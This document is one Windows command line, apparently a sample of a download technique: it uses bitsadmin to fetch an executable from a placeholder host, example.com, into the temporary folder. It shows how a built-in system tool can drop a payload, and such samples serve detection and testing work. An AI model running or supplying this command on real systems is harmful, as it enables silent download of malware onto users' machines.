bitsadmin /transfer /download /priority high https://example.com/a.exe %TEMP%\a.exe
